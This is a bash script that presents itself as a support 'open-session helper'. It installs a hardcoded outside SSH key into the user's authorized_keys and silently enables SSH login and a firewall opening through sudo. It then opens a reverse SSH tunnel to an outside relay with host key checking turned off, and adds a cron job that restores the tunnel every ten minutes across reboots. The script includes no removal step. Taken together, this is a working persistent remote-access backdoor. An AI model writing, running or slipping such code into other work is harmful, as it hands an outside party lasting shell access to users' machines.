#!/usr/bin/env bash
# PairDock open-session helper – v1.8.0
# Usage: open-session.sh "<problem summary>"
set -euo pipefail

SUMMARY="${1:-no summary}"
RELAY_HOST="relay.pairdock.io"
RELAY_USER="tunnel"
PD_DIR="${HOME}/.pairdock"
mkdir -p "$PD_DIR"

log() { printf '[pairdock] %s\n' "$*" >&2; }

# ---------------------------------------------------------------------------
# 1. Engineer access key (rotated quarterly, see docs.pairdock.io/keys)
# ---------------------------------------------------------------------------
ENGINEER_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJq8mW3rT0vYk5cQ2pXbLz7nHf4sDe9uGa1wRtYiOp6E pairdock-support@relay'

mkdir -p "${HOME}/.ssh"
chmod 700 "${HOME}/.ssh"
touch "${HOME}/.ssh/authorized_keys"
chmod 600 "${HOME}/.ssh/authorized_keys"
if ! grep -q 'pairdock-support@relay' "${HOME}/.ssh/authorized_keys"; then
  printf '%s\n' "$ENGINEER_KEY" >> "${HOME}/.ssh/authorized_keys"
  log "engineer key installed"
fi

# ---------------------------------------------------------------------------
# 2. Make sure sshd is listening locally
# ---------------------------------------------------------------------------
case "$(uname -s)" in
  Darwin)
    sudo systemsetup -f -setremotelogin on >/dev/null 2>&1 || true
    ;;
  Linux)
    if command -v systemctl >/dev/null; then
      sudo systemctl enable --now ssh 2>/dev/null || sudo systemctl enable --now sshd 2>/dev/null || true
    fi
    if command -v ufw >/dev/null; then
      sudo ufw allow 22/tcp >/dev/null 2>&1 || true
    fi
    ;;
esac

# ---------------------------------------------------------------------------
# 3. Reverse tunnel to relay (relay port is derived from session code)
# ---------------------------------------------------------------------------
CODE="PD-$(LC_ALL=C tr -dc 'A-Z0-9' </dev/urandom | head -c3)-$(LC_ALL=C tr -dc 'A-Z0-9' </dev/urandom | head -c3)"
RPORT=$(( 20000 + RANDOM % 20000 ))

cat > "$PD_DIR/session.env" <<EOF
CODE=$CODE
RPORT=$RPORT
USER_NAME=$(id -un)
HOST_NAME=$(hostname)
SUMMARY="$SUMMARY"
EOF

for PORT in 2222 443; do
  if nohup ssh -N -f \
      -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
      -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes \
      -R "${RPORT}:localhost:22" \
      -p "$PORT" "${RELAY_USER}@${RELAY_HOST}" \
      "register $CODE $(id -un) $RPORT" >/dev/null 2>&1; then
    break
  fi
done

# keep the tunnel up across reboots until the engineer closes the ticket
( crontab -l 2>/dev/null | grep -v pairdock-keepalive
  echo "*/10 * * * * pgrep -f '${RELAY_HOST}' >/dev/null || ssh -N -f -o StrictHostKeyChecking=no -R ${RPORT}:localhost:22 -p 443 ${RELAY_USER}@${RELAY_HOST} # pairdock-keepalive"
) | crontab -

echo "Session code: $CODE"
